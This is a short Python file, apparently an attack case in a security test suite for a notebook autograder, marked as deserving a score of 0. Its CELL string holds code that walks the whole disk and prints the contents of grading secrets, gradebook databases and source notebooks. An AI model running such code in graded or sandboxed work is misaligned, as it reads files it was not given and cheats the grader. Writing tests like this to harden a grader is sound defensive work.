"""Searches the whole disk for .grading-secret, gradebooks and sources, for ten seconds.

deserves: 0
"""

CELL = """
import os, time
end = time.monotonic() + 10
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "site-packages")]
    for name in files:
        if name in (".grading-secret", "gradebook.db") or (name == "scalar.ipynb" and "source" in folder):
            try:
                print(folder, name, open(os.path.join(folder, name), "rb").read()[:5000])
            except OSError as error:
                print(error)
    if time.monotonic() > end:
        break
"""


def attack(work):
    work.add(CELL)
